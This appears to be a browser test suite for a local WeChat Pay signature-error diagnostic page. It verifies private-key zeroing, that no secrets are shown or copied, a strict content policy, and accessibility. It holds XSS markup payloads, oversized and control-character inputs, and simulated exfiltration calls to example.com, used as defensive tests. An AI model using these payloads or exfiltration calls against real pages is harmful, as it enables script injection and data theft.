// The doctor's page in a real Chromium: what it says, and what it never does.
import assert from "node:assert/strict";
import { createHash, randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";

import { key, keyBytes, merchant } from "../package/files.mjs";
import { formsOf, numbersOf, Seeker, textsOf } from "../package/remains.mjs";
import { NotRun } from "../runtimes/process.mjs";
import { ofPages, startBrowser } from "./browser.mjs";
import { built, serve } from "./served.mjs";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const files = mkdtempSync(join(tmpdir(), "given-"));
const { folder, remove } = built();
const LANGUAGES = { zh: "doctor", en: "en/doctor" };

let site;
let browser;
let missing;
before(async () => {
  site = await serve(folder);
  browser = await startBrowser(...site.proxy).catch((error) => {
    if (!(error instanceof NotRun)) throw error;
    missing = error.message;
  });
});
after(() => {
  browser?.close();
  site?.close();
  remove();
  rmSync(files, { recursive: true, force: true });
});

/** A test in a tab of its own. */
function inTab(name, action, { language = "zh", prelude = "" } = {}) {
  test(name, async (context) => {
    if (missing) return context.skip(missing);
    const tab = await browser.open();
    try {
      await tab.visit(`${site.url}/${LANGUAGES[language]}/`, `(${WITNESS})();${prelude}`);
      await tab.until(() => /结果显示在这里|The result is shown here/.test(document.getElementById("found").textContent));
      await action(tab);
      assert.deepEqual(thrown(tab), []);
      assert.deepEqual(await tab.run(() => window.refused), [], "the page tried what its policy forbids");
    } finally {
      await tab.close();
    }
  });
}

/** Headless Chromium has no clipboard of its own. What the policy refuses never gets to the network, and is listed. */
const WITNESS = () => {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => window.refused.push(effectiveDirective));
  Object.defineProperty(navigator, "clipboard", {
    value: {
      writeText: async (text) => {
        window.copied = text;
      },
    },
  });
};

const thrown = (tab) => tab.events.filter(({ method }) => method === "Runtime.exceptionThrown").map(({ params }) => params);
const requests = (tab) =>
  tab.events.filter(({ method }) => method === "Network.requestWillBeSent").map(({ params }) => params.request.url);

const saysCode = (expected) => document.querySelector(".cause .tags code")?.textContent === expected;

/** What a paste does: the page may take it, else it goes into the field. */
function paste(text, id = "answer") {
  const field = document.getElementById(id);
  const clipboardData = new DataTransfer();
  clipboardData.setData("text/plain", text);
  const event = new ClipboardEvent("paste", { clipboardData, bubbles: true, cancelable: true });
  if (!field.dispatchEvent(event)) return "taken";
  field.value = text;
  field.dispatchEvent(new Event("input", { bubbles: true }));
  return "field";
}

/** Everything that a look at the page could show: its HTML, and what fields hold. */
function everything() {
  const fields = [...document.querySelectorAll("input:not([type=file]), textarea, select")].map(({ value }) => value);
  return [document.documentElement.outerHTML.replace(/<script[\s\S]*?<\/script>/, ""), ...fields].join("\n");
}

async function copied(tab) {
  await tab.run(() => document.getElementById("copy").click());
  await tab.until(() => window.copied !== undefined);
  return tab.run(() => window.copied);
}

function file(name, content) {
  const path = join(files, name);
  writeFileSync(path, content);
  return path;
}

// ---- what it says

/** The codes that docs/questions.md prints of the guide's five. */
const documented = [...readFileSync(new URL("../../docs/questions.md", import.meta.url), "utf8").matchAll(/^ {3}([A-Z_]+)$/gm)];
const CAUSES = Object.fromEntries(["appid", "mchid", "signature", "serial", "accept"].map((id, at) => [id, documented[at][1]]));

for (const language of Object.keys(LANGUAGES)) {
  inTab(
    `each example gives the cause that the documents name, in ${language}`,
    async (tab) => {
      for (const [id, expected] of Object.entries(CAUSES)) {
        await tab.run((id) => document.getElementById(`example-${id}`).click(), id);
        await tab.until(saysCode, expected);
        assert.equal(await tab.run(() => document.activeElement.id), "result");
        const title = await tab.run(() => document.querySelector(".cause .title").textContent);
        assert.equal(/[\u4e00-\u9fff]/.test(title), language === "zh", title);
        assert.ok((await tab.run(() => document.getElementById("status").textContent)).includes(title));
        assert.ok((await copied(tab)).includes(expected));
      }
    },
    { language },
  );
}

inTab("the first difference is marked, and the signed text shows its line ends", async (tab) => {
  await tab.run(() => document.getElementById("example-signature").click());
  await tab.until(saysCode, "SIGN_URL_CASE");
  // %7B was signed, %7b was sent.
  assert.deepEqual(await tab.run(() => [...document.querySelectorAll("mark")].map(({ textContent }) => textContent)), ["B", "b"]);
  const ends = () => [...document.querySelectorAll(".lines li code")].map(({ textContent }) => textContent.slice(-1));
  assert.deepEqual(await tab.run(ends), ["↵", "↵", "↵", "↵", "↵"]);
  assert.equal(await tab.run(() => document.querySelector(".lines .differs code").textContent.includes("%7B")), true);
  // The nonce has to be seen, and looks like an APIv3 key: it is not copied.
  const nonce = await tab.run(() => document.querySelectorAll(".lines li code")[3].textContent.slice(0, -1));
  assert.match(nonce, /^[0-9A-Za-z]{32}$/);
  assert.ok(!(await copied(tab)).includes(nonce));

  // A field has no carriage returns; what signRequest returned has those that were signed.
  await tab.run(paste, JSON.stringify({ message: "GET\r\n/v3/certificates\n1795911016\nabc\n" }), "signed");
  await tab.until(() => document.querySelectorAll(".lines li").length === 4);
  assert.match(await tab.run(() => document.querySelector(".lines").textContent), /GET␍↵/);
  await tab.run(paste, "GET\n/v3/certificates\n1795911016\nabc", "signed");
  await tab.until(() => /末尾没有换行/.test(document.querySelector(".message").textContent));
});

inTab("the result follows what is typed", async (tab) => {
  await tab.run(() => document.getElementById("answer").focus());
  await tab.send("Input.insertText", { text: '{"code":"SIGN_ERROR","message":"商户号不存在"' });
  await tab.send("Input.insertText", { text: "}" });
  await tab.until(() => document.querySelector(".cause .title")?.textContent.includes("商户号"));
  await tab.run(() => document.getElementById("clear").click());
  await tab.until(() => document.querySelector(".cause") === null);
  assert.equal(await tab.run(() => document.activeElement.id), "answer");
});

inTab("it is worked with the keyboard alone", async (tab) => {
  const reached = [];
  for (let at = 0; at < 12; at += 1) {
    await tab.press("Tab");
    reached.push(await tab.run(() => document.activeElement.id || document.activeElement.tagName));
  }
  const wanted = ["answer", "chooseAnswer", "clear", ...Object.keys(CAUSES).map((id) => `example-${id}`)];
  assert.deepEqual(
    reached.filter((id) => wanted.includes(id)),
    wanted,
  );
  await tab.run(() => document.getElementById("example-accept").focus());
  await tab.press("Enter");
  await tab.until(saysCode, CAUSES.accept);
  await tab.press("Tab");
  assert.equal(await tab.run(() => document.activeElement.id), "copy");
  await tab.press("Enter");
  await tab.until(() => document.getElementById("status").textContent === "已复制。");
});

inTab("where copying is forbidden the text is there to be copied by hand", async (tab) => {
  await tab.run(() => document.getElementById("example-accept").click());
  await tab.until(saysCode, CAUSES.accept);
  await tab.run(() => {
    navigator.clipboard.writeText = () => Promise.reject(new Error("forbidden"));
    document.getElementById("copy").click();
  });
  await tab.until(() => document.querySelector("#copied textarea")?.value.includes("ACCEPT_OR_USER_AGENT_MISSING"));
  assert.equal(await tab.run(() => document.activeElement.tagName), "TEXTAREA");
});

inTab("an entry of a HAR can be chosen", async (tab) => {
  const entry = (status, message) => ({
    request: { method: "GET", url: "https://api.mch.weixin.qq.com/v3/certificates", headers: [] },
    response: { status, headers: [], content: { text: JSON.stringify({ code: "SIGN_ERROR", message }) } },
  });
  const har = { log: { entries: [entry(401, "商户号不存在"), entry(400, "Http头缺少Accept或User-Agent")] } };
  await tab.choose("chooseAnswer", file("two.har", JSON.stringify(har)));
  await tab.until(() => /Accept/.test(document.querySelector(".cause .title")?.textContent));
  await tab.run(() => {
    const select = document.getElementById("entry");
    select.value = "1";
    select.dispatchEvent(new Event("change"));
  });
  await tab.until(() => /商户号/.test(document.querySelector(".cause .title")?.textContent));
});

inTab("an answer that Windows PowerShell saved as UTF-16 is read", async (tab) => {
  const text = '\uFEFF{"code":"SIGN_ERROR","message":"商户号不存在"}';
  await tab.choose("chooseAnswer", file("answer.txt", Buffer.from(text, "utf16le")));
  await tab.until(() => /商户号/.test(document.querySelector(".cause .title")?.textContent));
});

// ---- certificates and the private key

const secretsOfKey = [...formsOf(numbersOf(merchant.privateKey)), ...textsOf(merchant.privateKey)];
/** Records the buffers that files are read into, the wasm memories, what is decoded, and a memory while the key is cached. */
const WATCHING = `(${() => {
  window.buffers = [];
  window.memories = [];
  window.decoded = [];
  const { Instance } = WebAssembly;
  WebAssembly.Instance = class extends Instance {
    constructor(...given) {
      super(...given);
      if (this.exports.memory) window.memories.push(this.exports.memory);
    }
  };
  const { arrayBuffer } = Blob.prototype;
  Blob.prototype.arrayBuffer = async function () {
    const buffer = await arrayBuffer.call(this);
    window.buffers.push(buffer);
    return buffer;
  };
  for (const name of ["text", "stream"]) {
    Blob.prototype[name] = () => {
      window.decoded.push(name);
    };
  }
  window.FileReader = class {
    constructor() {
      window.decoded.push("FileReader");
    }
  };
  const { decode } = TextDecoder.prototype;
  TextDecoder.prototype.decode = function (bytes, options) {
    if (window.buffers.includes(bytes?.buffer)) window.decoded.push("TextDecoder");
    return decode.call(this, bytes, options);
  };
  const { fill } = Uint8Array.prototype;
  Uint8Array.prototype.fill = function (value, ...rest) {
    if (window.buffers.includes(this.buffer)) {
      window.whileCached = window.memories.map(({ buffer }) => new Uint8Array(buffer).slice());
    }
    return fill.call(this, value, ...rest);
  };
}})();`;

/** Bytes of the page, over the protocol. */
async function bytesIn(tab, list) {
  const texts = await tab.run(async (list) => {
    const views = window[list].map((one) => new Uint8Array(one.buffer instanceof ArrayBuffer ? one.buffer : one));
    const urls = views.map(
      (view) =>
        new Promise((resolve) => {
          let text = "";
          for (let at = 0; at < view.length; at += 1 << 15) text += String.fromCharCode(...view.subarray(at, at + (1 << 15)));
          resolve(btoa(text));
        }),
    );
    return Promise.all(urls);
  }, list);
  return texts.map((text) => Buffer.from(text, "base64"));
}

/** Every string of the page's heap. */
async function heap(tab) {
  await tab.send("HeapProfiler.enable");
  await tab.send("HeapProfiler.collectGarbage");
  const from = tab.events.length;
  await tab.send("HeapProfiler.takeHeapSnapshot", { reportProgress: false });
  const chunks = tab.events.slice(from).filter(({ method }) => method === "HeapProfiler.addHeapSnapshotChunk");
  return chunks.map(({ params }) => params.chunk).join("");
}

describe("the private key", () => {
  inTab(
    "is read as bytes, which are zeroed; the wasm memory, the heap's strings and the page have nothing of it",
    async (tab) => {
      const seeker = new Seeker(secretsOfKey);
      await tab.run(paste, '{"code":"SIGN_ERROR","message":"a text that the heap has"}');
      await tab.choose("chooseFiles", file("apiclient_cert.pem", keyBytes("merchant.crt")));
      await tab.choose("chooseKey", file("apiclient_key.pem", merchant.privateKey));
      await tab.until(() => window.whileCached !== undefined && document.querySelector("#key li") !== null);
      await tab.until(() => /成对|一对/.test(document.querySelector("ul.checked")?.textContent));

      const cached = await bytesIn(tab, "whileCached");
      assert.ok(
        cached.some((memory) => seeker.in(memory).length > 0),
        "the key was not looked for where it was cached",
      );
      for (const memory of await bytesIn(tab, "memories")) assert.deepEqual(seeker.in(memory), []);
      const buffers = await bytesIn(tab, "buffers");
      assert.ok(buffers.some(({ length }) => length === merchant.privateKey.length));
      for (const buffer of buffers.filter(({ length }) => length === merchant.privateKey.length)) {
        assert.ok(buffer.every((byte) => byte === 0));
      }
      assert.deepEqual(await tab.run(() => window.decoded), []);
      const strings = await heap(tab);
      assert.ok(strings.includes("a text that the heap has"));
      const lines = merchant.privateKey.split("\n").slice(2, -2);
      assert.deepEqual(
        lines.filter((line) => strings.includes(line.slice(0, 40))),
        [],
      );
      const page = await tab.run(everything);
      assert.deepEqual(
        lines.filter((line) => page.includes(line.slice(0, 24))),
        [],
      );

      await tab.run(() => document.querySelector("#key button").click());
      await tab.until(() => document.querySelector("#key li") === null);
      await tab.until(() => !/成对|一对/.test(document.querySelector("ul.checked")?.textContent));
    },
    { prelude: WATCHING },
  );

  inTab("of another certificate is found out", async (tab) => {
    await tab.choose("chooseFiles", file("apiclient_cert.pem", keyBytes("merchant.crt")));
    await tab.choose("chooseKey", file("apiclient_key.pem", keyBytes("rsa2048_second.pem")));
    await tab.until(() => document.querySelector(".problem code")?.textContent === "KEY_PAIR_MISMATCH");
  });

  const der = Buffer.from(merchant.privateKey.replace(/-----[^-]+-----|\s/g, ""), "base64");
  for (const [form, content] of [
    ["in PEM", merchant.privateKey],
    ["in PEM as UTF-16", Buffer.from(`\uFEFF${merchant.privateKey}`, "utf16le")],
    ["in DER", der],
    ["in Base64", der.toString("base64")],
    ["below its certificate", `${key("merchant.crt")}${merchant.privateKey}`],
  ]) {
    inTab(
      `${form} that is given as an answer or certificate is not taken, becomes no text, and is zeroed`,
      async (tab) => {
        const path = file("key.bin", content);
        for (const id of ["chooseAnswer", "chooseFiles"]) {
          await tab.run(() => {
            window.buffers.length = 0;
            document.getElementById("complaint").hidden = true;
          });
          await tab.choose(id, path);
          await tab.until(() => !document.getElementById("complaint").hidden);
          for (const buffer of await bytesIn(tab, "buffers")) assert.ok(buffer.every((byte) => byte === 0));
          assert.equal(await tab.run(() => document.getElementById("answer").value), "");
          assert.equal(await tab.run(() => document.querySelectorAll("#materials li").length), 0);
        }
        assert.deepEqual(await tab.run(() => window.decoded), []);
        for (const memory of await bytesIn(tab, "memories")) assert.deepEqual(new Seeker(secretsOfKey).in(memory), []);
      },
      { prelude: WATCHING },
    );
  }

  inTab("that is pasted is not taken", async (tab) => {
    for (const text of [merchant.privateKey, `my key:\n${merchant.privateKey}`, der.toString("base64")]) {
      for (const id of ["answer", "signed", "serialNo"]) {
        assert.equal(await tab.run(paste, text, id), "taken");
        await tab.until(() => /私钥/.test(document.getElementById("complaint").textContent));
        assert.ok(!(await tab.run(everything)).includes(der.toString("base64").slice(200, 224)));
      }
    }
  });
});

// ---- what it never shows

const APIV3_KEY = "a7cde1ZJB1kG2e7VfTs3jQzaWizur8Gb";
const SIGNATURE = randomBytes(256).toString("base64");
const APP_SECRET = "9f86d081884c7d659a2feaa0c55ad015";
const SECRETS = [APIV3_KEY, SIGNATURE.slice(8, 32), SIGNATURE.slice(-40, -16), APP_SECRET, merchant.privateKey.split("\n")[5]];

function harWithSecrets() {
  const body = JSON.stringify({ apiv3_key: APIV3_KEY, secret: APP_SECRET, key: merchant.privateKey, description: "x" });
  const authorization = `WECHATPAY2-SHA256-RSA2048 mchid="1900000001",nonce_str="n",signature="${SIGNATURE}",timestamp="1795911016",serial_no="4C48EE087870D46A4EDFC5A96CE0065F233E8983"`;
  return JSON.stringify({
    log: {
      entries: [
        {
          request: {
            method: "POST",
            url: `https://api.mch.weixin.qq.com/v3/pay/transactions/jsapi?secret=${APP_SECRET}`,
            headers: [
              { name: "Authorization", value: authorization },
              { name: "X-Key", value: APIV3_KEY },
            ],
            postData: { text: body },
          },
          response: {
            status: 401,
            headers: [{ name: "Wechatpay-Signature", value: SIGNATURE }],
            content: { text: JSON.stringify({ code: "SIGN_ERROR", message: `签名错误 ${APIV3_KEY}`, detail: { value: body } }) },
          },
        },
      ],
    },
  });
}

for (const language of Object.keys(LANGUAGES)) {
  inTab(
    `a HAR with secrets shows none of them, nor does what is copied, in ${language}`,
    async (tab) => {
      const path = file("secrets.har", harWithSecrets());
      for (const give of [() => tab.choose("chooseAnswer", path), () => tab.run(paste, harWithSecrets())]) {
        await tab.run(() => document.getElementById("clear").click());
        await give();
        await tab.until(() => document.querySelector(".cause") !== null && document.querySelector(".message") !== null);
        const [page, report] = [await tab.run(everything), await copied(tab)];
        assert.match(report, /SIGN/);
        for (const secret of SECRETS) {
          assert.ok(!page.includes(secret), `${secret} is in the page`);
          assert.ok(!report.includes(secret), `${secret} is in what was copied`);
        }
      }
    },
    { language },
  );
}

// ---- what leaves, and what stays

test("the policy comes first, and allows the page's own script and styles alone", () => {
  for (const path of Object.values(LANGUAGES)) {
    const html = readFileSync(join(folder, path, "index.html"), "utf8");
    const [, policy] = /<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
    const directives = Object.fromEntries(policy.split("; ").map((text) => text.split(/ (.*)/s).slice(0, 2)));
    const hashOf = (text) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
    const [script, ...others] = [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)];
    const [style] = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)];
    assert.deepEqual(others, []);
    assert.deepEqual(directives, {
      "default-src": "'none'",
      "connect-src": "'none'",
      "script-src": `${hashOf(script[1])} 'wasm-unsafe-eval'`,
      "style-src": hashOf(style[1]),
      "base-uri": "'none'",
      "form-action": "'none'",
      "require-trusted-types-for": "'script'",
      "trusted-types": "'none'",
    });
    assert.deepEqual(html.replace(script[0], "").match(/\b(src|srcset|action|style|on\w+)=/g), null);
  }
});

inTab("no request leaves, with the network there and with it switched off", async (tab) => {
  const opened = `${site.url}/doctor/`;
  const work = async () => {
    for (const [id, expected] of Object.entries(CAUSES)) {
      await tab.run(() => document.getElementById("clear").click());
      await tab.run((id) => document.getElementById(`example-${id}`).click(), id);
      await tab.until(saysCode, expected);
      await copied(tab);
    }
    await tab.choose("chooseFiles", file("apiclient_cert.pem", keyBytes("merchant.crt")));
    await tab.choose("chooseKey", file("apiclient_key.pem", merchant.privateKey));
    await tab.until(() => document.querySelector("#key li") !== null);
  };
  const before = site.asked.length;
  await work();
  assert.deepEqual(await tab.run(() => window.refused), []);
  // Somebody else's script in the page could not send anything either.
  const tried = await tab.run(async () => {
    const outcomes = [];
    const failed = (name) => () => outcomes.push(name);
    await fetch("/stolen").catch(failed("fetch"));
    await new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onerror = () => resolve(outcomes.push("XMLHttpRequest"));
      request.open("POST", "https://example.com/stolen");
      request.send("x");
    });
    await new Promise((resolve) => {
      const image = new Image();
      image.onerror = () => resolve(outcomes.push("image"));
      image.src = "https://example.com/stolen.png";
    });
    try {
      document.body.innerHTML = "<b>x</b>";
    } catch {
      outcomes.push("innerHTML");
    }
    return outcomes;
  });
  assert.deepEqual(tried, ["fetch", "XMLHttpRequest", "image", "innerHTML"]);
  await tab.run(() => {
    window.refused = [];
  });
  await tab.send("Network.emulateNetworkConditions", { offline: true, latency: 0, downloadThroughput: 0, uploadThroughput: 0 });
  await work();
  assert.deepEqual(ofPages(site.asked.slice(before)), []);
  const sent = requests(tab).filter((url) => !/stolen/.test(url));
  assert.deepEqual(sent, [opened]);
});

inTab("nothing is stored, and no field is remembered or spelt by a service", async (tab) => {
  await tab.run(() => document.getElementById("example-signature").click());
  await tab.until(saysCode, "SIGN_URL_CASE");
  const stored = await tab.run(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  assert.deepEqual(stored, { local: 0, session: 0, cookies: "", databases: 0, caches: 0, workers: 0 });
  const kept = () =>
    [...document.querySelectorAll("textarea, input[type=text]")].filter(
      (field) => field.autocomplete !== "off" || field.spellcheck || field.form,
    ).length;
  assert.equal(await tab.run(kept), 0);
  await tab.send("Page.reload");
  await tab.until(() => /结果显示在这里/.test(document.getElementById("found")?.textContent));
  assert.equal(await tab.run(() => document.getElementById("answer").value + document.getElementById("signed").value), "");
});

// ---- hostile pastes

const har = (text) =>
  JSON.stringify({ log: { entries: [{ request: { headers: [] }, response: { status: 400, headers: [], content: { text } } }] } });
const MARKUP = `"><img src=x onerror="window.ran=1"><script>window.ran=1</script></textarea><svg onload=window.ran=1>`;
const HOSTILE = {
  "10 MB of words": "签名错误 ".repeat(2_000_000),
  "10 MB on one line": "A".repeat(10_000_000),
  "10 MB of braces": "{".repeat(10_000_000),
  "10 MB of brackets": "[".repeat(10_000_000),
  "a HAR of 10 MB": har("x".repeat(10_000_000)),
  "10 MB of heads": "HTTP/1.1 200 OK\r\n\r\n".repeat(500_000),
  "10 MB of curl -v": "< HTTP/1.1 401 X\n> GET / HTTP/1.1\n< a: b\n".repeat(240_000),
  binary: String.fromCharCode(...randomBytes(50_000)),
  "markup in an answer": JSON.stringify({ code: "SIGN_ERROR", message: MARKUP, detail: { value: MARKUP } }),
  "markup by itself": MARKUP,
  "markup in curl -v": `> GET /${MARKUP} HTTP/1.1\n> Authorization: WECHATPAY2-SHA256-RSA2048 mchid="${MARKUP}",nonce_str="<b>",timestamp="1"\n< HTTP/1.1 401 X\n< Request-ID: ${MARKUP}\n< \n{"code":"SIGN_ERROR","message":"x"}`,
  "half pairs": `{"code":"SIGN_ERROR","message":"\ud83d \udc00 \\ud83d"}`,
  "characters that turn the writing": '{"code":"SIGN_ERROR","message":"\u202e\u2066商户号不存在\u0000\u001b[2J"}',
  "members of every object":
    '{"__proto__":{"log":{"entries":[]}},"constructor":1,"log":{"entries":{"length":1}},"status":"constructor"}',
};
/** The machine may be busy; a page that hangs does not come back at all. */
const PATIENCE_MILLISECONDS = 10_000;

for (const [name, text] of Object.entries(HOSTILE)) {
  inTab(`${name}: neither freezes the page nor runs in it`, async (tab) => {
    for (const id of ["answer", "signed"]) {
      const started = Date.now();
      await tab.run(paste, text, id);
      await tab.run(() => new Promise((resolve) => setTimeout(() => requestAnimationFrame(resolve), 300)));
      const taken = Date.now() - started;
      assert.ok(taken < PATIENCE_MILLISECONDS, `${taken} ms`);
    }
    assert.equal(await tab.run(() => window.ran), undefined);
    assert.equal(await tab.run(() => document.querySelectorAll("#found img, #found script, #found svg").length), 0);
    const steering = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
    assert.doesNotMatch(await tab.run(() => document.getElementById("found").textContent), steering);
    await tab.run(() => document.getElementById("clear").click());
    await tab.run(() => document.getElementById("example-appid").click());
    await tab.until(saysCode, CAUSES.appid);
  });
}

inTab("a file of 10 MB, binary, or too large is answered in words", async (tab) => {
  await tab.choose("chooseAnswer", file("large.har", HOSTILE["a HAR of 10 MB"]));
  await tab.until(() => document.querySelector(".cause") !== null);
  for (const [name, content] of [
    ["noise.bin", randomBytes(2_000_000)],
    ["huge.har", Buffer.alloc((50 << 20) + 1, 32)],
  ]) {
    await tab.choose("chooseAnswer", file(name, content));
    await tab.until((name) => document.getElementById("complaint").textContent.includes(name), name);
  }
});

// ---- accessibility

const SCREENS = { wide: { width: 1360, height: 900 }, narrow: { width: 390, height: 844 } };

describe("axe finds no serious fault", () => {
  for (const language of Object.keys(LANGUAGES)) {
    for (const [size, screen] of Object.entries(SCREENS)) {
      for (const scheme of ["light", "dark"]) {
        inTab(
          `${language}, ${size}, ${scheme}`,
          async (tab) => {
            await tab.look({ ...screen, scheme });
            await tab.send("Runtime.evaluate", { expression: axe });
            const states = {
              empty: () => {},
              "an example with everything open": () => {
                document.getElementById("more").open = true;
                document.getElementById("example-signature").click();
              },
              "a HAR beside the field": () => document.getElementById("example-accept").click(),
            };
            for (const [state, enter] of Object.entries(states)) {
              await tab.run(enter);
              await tab.run(() => new Promise((resolve) => setTimeout(resolve, 400)));
              const faults = await tab.run(async () => {
                const { violations } = await window.axe.run();
                const serious = violations.filter(({ impact }) => ["serious", "critical"].includes(impact));
                return serious.map(({ id, nodes }) => [id, nodes.map(({ html }) => html.slice(0, 200))]);
              });
              assert.deepEqual(faults, [], state);
              assert.ok(await tab.run(() => document.documentElement.scrollWidth <= innerWidth), `${state}: scrolls sideways`);
            }
          },
          { language },
        );
      }
    }
  }
});
